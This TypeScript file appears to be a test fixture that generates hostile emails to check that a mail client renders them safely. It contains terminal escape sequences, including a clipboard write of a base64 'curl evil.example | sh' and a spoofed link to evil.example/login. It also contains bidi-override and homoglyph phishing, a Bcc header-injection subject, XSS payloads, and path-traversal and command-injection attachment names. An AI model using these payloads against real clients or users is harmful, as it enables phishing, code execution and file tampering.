/**
 * Mail that tries to drive the reader's terminal or to fool the reader's eye: escape sequences, control characters,
 * bidirectional overrides, invisible characters, names of files that are not names. A client shows all of it harmlessly.
 */
import {noise} from './bytes.ts';
import {attachment, compose, encodeWords, type Fields, type Mime, mailboxOf, multipart, part, text} from './compose.ts';
import {writeMessageDate} from './dates.ts';
import type {Planned} from './letters.ts';
import {me} from './people.ts';

const esc = '\u001b';
const bell = '\u0007';
const string8 = '\u009c';
const csi8 = '\u009b';
const rightToLeft = '\u202e';
const isolate = '\u2066';
const zeroWidth = '\u200b';
const tag = String.fromCodePoint(0xe0041, 0xe0042);

type Attack = {
	readonly name: string;
	readonly address: string;
	readonly subject: string;
	readonly mime: () => Mime;
	readonly more?: Fields;
};

const body =
	(content: string): (() => Mime) =>
	() =>
		text(content, {encoding: 'quoted-printable'});

export const attacks: readonly Attack[] = [
	{
		name: `Port office${esc}[2J${esc}[H`,
		address: 'port@traffic.example',
		subject: `Berth changed ${esc}]0;you have been renamed${bell}${esc}[31m(urgent)${esc}[0m`,
		mime: () =>
			multipart('mixed', [
				text(
					`Your berth has changed.${esc}[2J${esc}[1;1H${esc}[31mALL YOUR MAIL HAS BEEN DELETED${esc}[0m\n\n${esc}]8;;https://evil.example/login${esc}\\https://port.example/berths${esc}]8;;${esc}\\\n\n${esc}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${bell}${esc}P$q"p${esc}\\${esc}[6n${esc}[c\nBerth 4 instead of 2.\rBerth 9 instead of 2.\n`,
					{encoding: 'quoted-printable'},
				),
				attachment('application/octet-stream', '../../.bashrc', noise(812, 1)),
				attachment('application/octet-stream', '/etc/passwd', noise(1404, 2)),
				attachment('image/jpeg', `con${rightToLeft}gpj.exe`, noise(20_480, 3)),
				attachment('text/plain', `notes${esc}[2J.txt`, noise(300, 4)),
			]),
	},
	{
		name: `Bank ${rightToLeft}moc.elpmaxe@ecivres`,
		address: 'service@secure-login.example',
		subject: `Invoice${zeroWidth}${zeroWidth} for ${isolate}${rightToLeft}00.9 RUE${tag}`,
		mime: body(
			`Dear customer,\n\npay ${rightToLeft}00.000,1${'\u202c'} and click https://b${'\u0430'}nk.example/\n${zeroWidth}h${zeroWidth}i${zeroWidth}d${zeroWidth}d${zeroWidth}e${zeroWidth}n\n${tag}\u{e007f}\n`,
		),
	},
	{
		name: 'C1 controls',
		address: 'c1@old-terminal.example',
		subject: `8-bit controls ${csi8}31m red? ${csi8}2J and ${'\u0090'}DCS${string8} and \u0085 next line`,
		mime: body(
			`One-byte CSI: ${csi8}2J${csi8}H\nOSC: ${'\u009d'}0;title${string8}\nShift out: \u000e abcdef \u000f\nBackspace: password\b\b\b\b\b\b\b\bhunter2!\nForm feed: \f vertical tab: \v null: \u0000 delete: \u007f\n`,
		),
	},
	{
		name: 'Second header',
		address: 'smuggle@headers.example',
		subject: 'Fine so far\r\nBcc: victim@aske.example\r\n\r\nnot a body',
		mime: body(
			'The subject of this message holds line ends inside its encoded words.\nNone of them may end the line they are shown on.\n',
		),
	},
	{
		name: 'Boss" <boss@polar.example>, "x',
		address: 'someone@else.example',
		subject: 'From looks like two people',
		mime: body('The display name holds a quote, an address and a comma.\n'),
	},
	{
		name: 'Long line',
		address: 'long@lines.example',
		subject: `${'very '.repeat(150)}long subject`,
		mime: () => text(`${'x'.repeat(5000)}\n${'\u0301'.repeat(400)}a\n${'W'.repeat(100)}\n`, {encoding: 'base64'}),
	},
	{
		name: 'Attachment names',
		address: 'names@files.example',
		subject: 'Nine files with names that are not names',
		mime: () =>
			multipart('mixed', [
				text('Save them all somewhere safe.\n'),
				...[
					'..',
					'.',
					'~/.ssh/authorized_keys',
					'CON',
					'a\nb.txt',
					'-rf *',
					'COM1.txt:stream',
					`${'n'.repeat(300)}.pdf`,
					'$(reboot).zip',
				].map((name, i) => attachment('application/octet-stream', name.replace(/\n/g, '\u240a'), noise(100 + i, i))),
				part(
					[
						'Content-Type: application/octet-stream',
						"Content-Disposition: attachment; filename*0*=utf-8''..%2F..%2F; filename*1*=%2Eprofile%0A",
					],
					'plain\n',
				),
			]),
	},
	{
		name: 'Broken MIME',
		address: 'broken@mime.example',
		subject: 'A multipart without an end, and a charset that is none',
		mime: () => ({
			fields: ['Content-Type: multipart/mixed; boundary="never"'],
			body: [
				Buffer.from(
					'preamble\r\n--never\r\nContent-Type: text/plain; charset=x-no-such-thing\r\nContent-Transfer-Encoding: x-unheard-of\r\n\r\nWhat is here cannot be decoded.\r\n--never\r\nContent-Type: ;;;\r\n\r\nNor this.\r\n--never\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<script>alert(1)</script><b onclick="x()">visible</b><img src=x onerror=alert(1)><div style="display:none">hidden</div>\r\n',
				),
			],
			depth: 1,
		}),
	},
];

export const planAttack = (attack: Attack, time: number, flags: readonly string[]): Planned => ({
	time,
	flags,
	write: () => {
		// Encoded words hide from mail servers what a careless reader then prints.
		const name = /^[\x20-\x7e]*$/.test(attack.name)
			? mailboxOf(attack.name, attack.address)
			: `${encodeWords(attack.name)} <${attack.address}>`;
		return compose(
			[
				['Date', writeMessageDate(time)],
				['From', name],
				['To', mailboxOf(me.name, me.address)],
				['Subject', encodeWords(attack.subject)],
				['Message-ID', `<${time.toString(36)}@${attack.address.split('@')[1]}>`],
				...(attack.more ?? []),
			],
			attack.mime(),
		);
	},
});
